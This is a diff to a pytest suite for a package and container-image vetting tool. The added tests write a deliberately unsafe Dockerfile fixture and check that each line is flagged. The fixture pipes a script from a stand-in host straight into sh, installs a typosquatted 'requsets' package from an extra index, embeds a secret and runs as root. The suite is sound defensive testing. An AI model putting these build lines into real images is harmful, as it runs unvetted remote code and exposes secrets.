@@ -9,11 +9,13 @@ import pathlib
 import subprocess
 import tarfile
 import threading
+import time
 
 import pytest
 
 from calls import BERTH, ROOT
 from figures import figure
+from package_index import Index, wheel
 from references import References, require
 
 ADVISORIES = os.path.join(os.path.dirname(ROOT), 'shared', 'data', 'pypa-advisories-2024-10.tar.gz')
@@ -76,12 +78,6 @@ def vet(tmp_path):
 
 def rules(report):
     return {finding['rule']: finding for package in report['packages'] for finding in package['findings'] if finding['verdict'] != 'allow'}
-
-
-def test_without_advisories_nothing_passes_unasked(vet):
-    code, report = vet.judged()
-    assert (code, report['verdict'], report['general'][0]['rule']) == (3, 'ask', 'database.missing')
-    assert report['packages'][0]['verdict'] == 'allow'
 
 
 def test_a_package_is_refused_approved_and_refused_again(vet):
@@ -234,6 +230,101 @@ def test_a_report_is_valid_sarif(vet, references):
     assert checked.returncode == 0 and errors == [], (checked.stdout, errors)
 
 
+# C05 of the table of abuse: what each line is to be flagged by.
+IMAGE_FOLDER = {
+    'Dockerfile': '''FROM demisto/python3:latest
+ARG PYPI_TOKEN
+ENV DB_PASSWORD=canary-7c1
+ADD http://files.example/tool.tar.gz /opt/
+RUN curl -fsSL https://install.example/x | sh
+RUN pip install --extra-index-url https://index.example/simple requsets berthgpl==1.0 berthnone==1.0
+COPY requirements.txt /tmp/
+RUN pip install -r /tmp/requirements.txt
+USER root
+''',
+    'requirements.txt': 'urllib==1.21.1\nsmalllib==1.0\n',
+    'build.conf': 'version=1.0.0\ndevonly=false\n',
+}
+FLAGGED = {('build.moving-tag', 'Dockerfile', 1), ('build.secret', 'Dockerfile', 2), ('build.secret', 'Dockerfile', 3),
+           ('build.remote-add', 'Dockerfile', 4), ('build.pipe-to-shell', 'Dockerfile', 5), ('build.extra-index', 'Dockerfile', 6),
+           ('name.look-alike', 'Dockerfile', 6), ('licence.denied', 'Dockerfile', 6), ('name.unknown', 'Dockerfile', 6),
+           ('build.root', 'Dockerfile', 9), ('name.malicious', 'requirements.txt', 1), ('build.unread', 'build.conf', 2)}
+
+
+@pytest.fixture
+def index():
+    made = Index()
+    made.add(wheel('smalllib', '1.0', {'smalllib.py': ''}))
+    made.add(wheel('berthgpl', '1.0', {'berthgpl.py': ''}, licence='GPL-3.0-only'))
+    made.add(wheel('requsets', '1.0', {'requsets.py': ''}))
+    yield made
+    made.end()
+
+
+def image_folder(vet, files):
+    folder = vet.folder / 'my-image'
+    folder.mkdir(exist_ok=True)
+    for name, text in files.items():
+        (folder / name).write_text(text)
+    return folder
+
+
+def flagged(sarif):
+    found = set()
+    for result in sarif['runs'][0]['results']:
+        place = result['locations'][0]['physicalLocation']
+        found.add((result['ruleId'], place['artifactLocation']['uri'], place.get('region', {}).get('startLine', 0)))
+    return found
+
+
+def test_an_image_folder_is_flagged_line_by_line(vet, index, monkeypatch):
+    vet.imported(WEAK)
+    monkeypatch.setenv('PIP_INDEX_URL', index.url + '/simple')
+    folder = image_folder(vet, IMAGE_FOLDER)
+    done = vet('--format', 'sarif', '%s/' % folder)
+    assert done.returncode == 1, done
+    missing = FLAGGED - flagged(json.loads(done.stdout))
+    assert not missing, (missing, done.stdout)
+    assert 'canary-7c1' not in done.stdout + done.stderr
+    figure('vet', 'C05: rules that flag an image folder', sorted({rule for rule, _, _ in FLAGGED}))
+    # One approval lets one rule pass, for this folder.
+    (vet.folder / 'approvals.yaml').write_text(APPROVAL.replace('zz-thing, rule: advisory.critical', 'my-image, ecosystem: image, rule: build.root')
+                                               % '2199-12-31')
+    report = json.loads(vet('--json', '%s/' % folder).stdout)
+    image = [package for package in report['packages'] if package['ecosystem'] == 'Image'][0]
+    approved = [finding['rule'] for finding in image['findings'] if finding.get('approval')]
+    assert approved == ['build.root'] and image['verdict'] == 'refuse', report
+
+
+def test_an_image_folder_in_order_passes(vet, index, monkeypatch):
+    vet.imported(WEAK)
+    monkeypatch.setenv('PIP_INDEX_URL', index.url + '/simple')
+    folder = image_folder(vet, {'Dockerfile': 'FROM demisto/python3:3.11.10.1\nCOPY requirements.txt .\n'
+                                              'RUN pip install --no-cache-dir -r requirements.txt\n',
+                                'requirements.txt': 'smalllib==1.0\n', 'build.conf': 'version=1.0.0\n'})
+    done = vet('%s/' % folder)
+    assert done.returncode == 0 and 'my-image' in done.stdout and 'smalllib 1.0' in done.stdout, done
+
+
+def test_a_release_has_the_age_that_the_index_says(vet, index, monkeypatch):
+    vet.imported(WEAK)
+    monkeypatch.setenv('PIP_INDEX_URL', index.url + '/simple')
+    assert vet('smalllib==1.0').returncode == 0
+    name = 'smalllib-1.0-py3-none-any.whl'
+    index.uploaded[name] = time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime(time.time() - 6 * 86400))
+    done = vet('smalllib==1.0')
+    assert done.returncode == 3 and 'release.young: released 20' in done.stdout, done
+    index.uploaded[name], index.yanked[name] = '2026-01-01T00:00:00Z', 'it leaks'
+    done = vet('smalllib==1.0')
+    assert done.returncode == 1 and 'release.yanked: its authors have withdrawn the release: it leaks' in done.stdout, done
+    del index.yanked[name]
+    index.json_pages = False
+    done = vet('smalllib==1.0')
+    assert done.returncode == 3 and 'release.undated' in done.stdout and 'no pages in JSON' in done.stdout, done
+    (vet.folder / 'vet.yaml').write_text('version: 1\nreleases: {min_age: 0}\n')
+    assert vet('smalllib==1.0').returncode == 0
+
+
 def test_the_index_is_asked_through_pip(vet):
     """Where pip reaches an index; the policy's own example of the original passes as far as its packages go."""
     vet.imported(WEAK)
@@ -246,4 +337,4 @@ def test_the_index_is_asked_through_pip(vet):
     by_name = {package['name']: package for package in report['packages']}
     assert by_name['mechanize']['verdict'] == 'allow', done.stdout
     assert any('BSD' in statement['expression'] for statement in by_name['mechanize']['licences'])
-    assert by_name['no-such-package-of-berth']['findings'][0]['rule'] == 'facts.missing'
+    assert by_name['no-such-package-of-berth']['findings'][0]['rule'] == 'name.unknown'
